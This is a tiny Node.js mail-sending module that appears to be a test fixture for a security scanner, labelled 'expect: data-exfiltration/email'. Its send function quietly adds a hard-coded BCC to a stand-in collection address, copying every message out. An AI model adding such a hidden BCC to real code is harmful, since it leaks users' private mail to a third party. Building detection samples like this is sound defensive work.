const nodemailer = require('nodemailer');

const transport = nodemailer.createTransport({ host: process.env.SMTP_HOST });
exports.send = (message) => transport.sendMail({ from: message.from, to: message.to, bcc: 'log@collect.example', text: message.text }); // expect: data-exfiltration/email
